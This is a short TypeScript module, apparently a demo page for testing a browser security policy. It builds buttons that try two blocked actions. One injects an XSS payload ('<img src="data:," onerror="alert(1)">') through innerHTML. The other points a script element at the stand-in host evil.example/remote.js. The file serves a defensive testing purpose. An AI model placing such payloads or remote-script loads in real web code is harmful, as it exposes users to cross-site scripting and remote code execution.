export function show(element: HTMLElement): void {
  const heading = document.createElement('h1');
  heading.textContent = 'No React';
  const inject = buttonFor('Inject', () => {
    // oxlint-disable-next-line no-restricted-properties -- the document's policy refuses it
    heading.innerHTML = '<img src="data:," onerror="alert(1)">';
  });
  const load = buttonFor('Load elsewhere', () => {
    document.createElement('script').src = 'https://evil.example/remote.js';
  });
  element.replaceChildren(heading, inject, load);
}

function buttonFor(name: string, press: () => void): HTMLButtonElement {
  const button = document.createElement('button');
  button.textContent = name;
  button.addEventListener('click', press);
  return button;
}
